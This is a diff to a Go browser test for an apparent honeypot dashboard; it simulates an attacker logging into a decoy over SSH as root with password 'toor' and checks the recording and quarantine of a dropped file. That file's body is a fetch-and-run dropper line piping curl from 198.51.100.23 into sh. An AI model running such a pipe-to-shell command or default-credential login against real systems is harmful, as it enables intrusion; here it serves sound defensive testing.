@@ -4,6 +4,7 @@ import (
 	"bytes"
 	"context"
 	"fmt"
+	"io"
 	"math/rand/v2"
 	"os"
 	"os/exec"
@@ -185,10 +186,37 @@ func TestDashboardInChromium(t *testing.T) {
 	shot("03-overview")
 
 	// An SSH attack made now reaches the live feed without a reload.
-	ssh := exec.Command(sshpass, "-p", "toor", "ssh", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
-		"root@"+gw[1], "uname -a")
-	if o, err := ssh.CombinedOutput(); err != nil {
-		t.Fatalf("ssh to the demo: %v %s", err, o)
+	// It is an interactive session on a terminal (-tt), so the decky
+	// records it.
+	ssh := exec.Command(sshpass, "-p", "toor", "ssh", "-tt", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
+		"root@"+gw[1])
+	stdin, err := ssh.StdinPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var sshOut bytes.Buffer
+	ssh.Stdout, ssh.Stderr = &sshOut, &sshOut
+	if err := ssh.Start(); err != nil {
+		t.Fatal(err)
+	}
+	for _, line := range []string{"uname -a\n", "cat /etc/hostname\n", "exit\n"} {
+		time.Sleep(time.Second)
+		if _, err := io.WriteString(stdin, line); err != nil {
+			t.Fatalf("ssh session: %v\n%s", err, sshOut.String())
+		}
+	}
+	if err := ssh.Wait(); err != nil {
+		t.Fatalf("ssh to the demo: %v %s", err, sshOut.String())
+	}
+	// And a file dropped with scp, which the decky quarantines.
+	dropped := filepath.Join(t.TempDir(), "x.sh")
+	const droppedBody = "#!/bin/sh\ncurl -s http://198.51.100.23/m | sh\n"
+	if err := os.WriteFile(dropped, []byte(droppedBody), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if o, err := exec.Command(sshpass, "-p", "toor", "scp", "-O", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null",
+		dropped, "root@"+gw[1]+":/tmp/x.sh").CombinedOutput(); err != nil {
+		t.Fatalf("scp to the demo: %v %s", err, o)
 	}
 	run("see the attack in the live feed", chromedp.Poll[chromedp.Void](
 		`[...document.querySelectorAll('#feed li')].some(li => li.textContent.includes('ssh.login.success'))`,
@@ -239,6 +267,35 @@ func TestDashboardInChromium(t *testing.T) {
 		`document.querySelector('pre.term').dataset.state === 'done' && document.querySelector('pre.term').textContent.includes('uname -a')`,
 		chromedp.WithPollingTimeout(20*time.Second)))
 	shot("09-attacker-replayed")
+	// The recording of the same session, played in the browser from the
+	// master's copy (the agent uploads it when the session ends).
+	for end := time.Now().Add(20 * time.Second); ; {
+		n, err := chromedp.Run(ctx, chromedp.Evaluate[int](`document.querySelectorAll('button.play-cast, a[download$=".bin"]').length`))
+		if err == nil && n > 1 {
+			break
+		}
+		if time.Now().After(end) {
+			t.Fatal("the session's recording or the dropped file never reached the attacker page")
+		}
+		time.Sleep(500 * time.Millisecond)
+		run("reload the attacker", chromedp.Reload())
+		waitFor("the attacker page", `document.readyState === 'complete' && !!document.getElementById('timeline-h')`, 15*time.Second)
+	}
+	run("play the recording", chromedp.Click(`button.play-cast`), chromedp.Poll[chromedp.Void](
+		`(() => { const s = document.querySelector('pre.screen'); return s.dataset.state === 'done' &&
+		   s.textContent.includes('uname -a') && s.textContent.includes('Linux') && s.textContent.includes('cat /etc/hostname'); })()`,
+		chromedp.WithPollingTimeout(30*time.Second)))
+	shot("09b-attacker-recording")
+	// The dropped file is listed with its hash, and an admin downloads the
+	// master's copy.
+	got, err := chromedp.Run(ctx, chromedp.Evaluate[string](`(async () => {
+		const a = document.querySelector('a[download$=".bin"]');
+		if (!a) return 'no download link';
+		return await (await fetch(a.href)).text();
+	})()`, chromedp.EvalAwaitPromise))
+	if err != nil || got != droppedBody {
+		t.Fatalf("download of the dropped file: %q %v", got, err)
+	}
 
 	run("open credentials", chromedp.Navigate(base+"/credentials"), chromedp.WaitVisible(`table`))
 	shot("10-credentials")
@@ -293,6 +350,31 @@ func TestDashboardInChromium(t *testing.T) {
 		t.Fatalf("the list shows small as %q: %v", st, err)
 	}
 	shot("12d-topologies-after")
+
+	// Create from a pasted spec: the check draws the spec with the
+	// overlapping LAN marked; fixed, it is created.
+	pasted := "name: pasted\nhost: local\nseed: 0badc0de0badc0de0badc0de0badc0de\nlans:\n" +
+		"  - {name: front, subnet: 127.44.0.0/24, dmz: true}\n  - {name: back, subnet: 127.44.0.0/25}\n" +
+		"deckies:\n  - name: files\n    persona: {os: linux, distro: debian}\n    addresses: [{lan: front}, {lan: back}]\n    services: [ftp]\n"
+	setSource := func(doc string) string {
+		return fmt.Sprintf(`(() => { document.getElementById('source').value = %q; return true; })()`, doc)
+	}
+	run("open the new topology page", chromedp.Click(`a[href="/topologies/new"]`))
+	waitFor("the new topology page", `document.readyState === 'complete' && document.getElementById('src-form')?.dataset.ready === 'true'`, 15*time.Second)
+	waitFor("paste a spec", setSource(pasted), 5*time.Second)
+	run("check it", chromedp.Click(`#src-check`))
+	waitFor("the overlap drawn on its LAN", `document.getElementById('src-summary').textContent.startsWith('Invalid') &&
+		!!document.querySelector('#src-preview g.lan.issue-error[data-lan="back"]') &&
+		document.getElementById('src-issues').textContent.includes('SUBNET_OVERLAP')`, 15*time.Second)
+	shot("12e-topology-new-invalid")
+	waitFor("fix the spec", setSource(strings.Replace(pasted, "127.44.0.0/25", "127.45.0.0/24", 1)), 5*time.Second)
+	run("check it again", chromedp.Click(`#src-check`))
+	waitFor("a valid spec drawn", `document.getElementById('src-summary').textContent.startsWith('Valid') &&
+		document.querySelectorAll('#src-preview g.decky').length === 1 && !document.querySelector('#src-preview .issue-error')`, 15*time.Second)
+	run("create it", chromedp.Click(`#src-form button[type="submit"]`))
+	waitFor("the pasted topology's page", `location.pathname.startsWith('/topologies/') && document.readyState === 'complete' &&
+		!!document.getElementById('netmap') && document.title.includes('pasted')`, 15*time.Second)
+	shot("12f-topology-pasted")
 
 	run("open users", chromedp.Navigate(base+"/users"), chromedp.WaitVisible(`#user-form`))
 	shot("13-users")
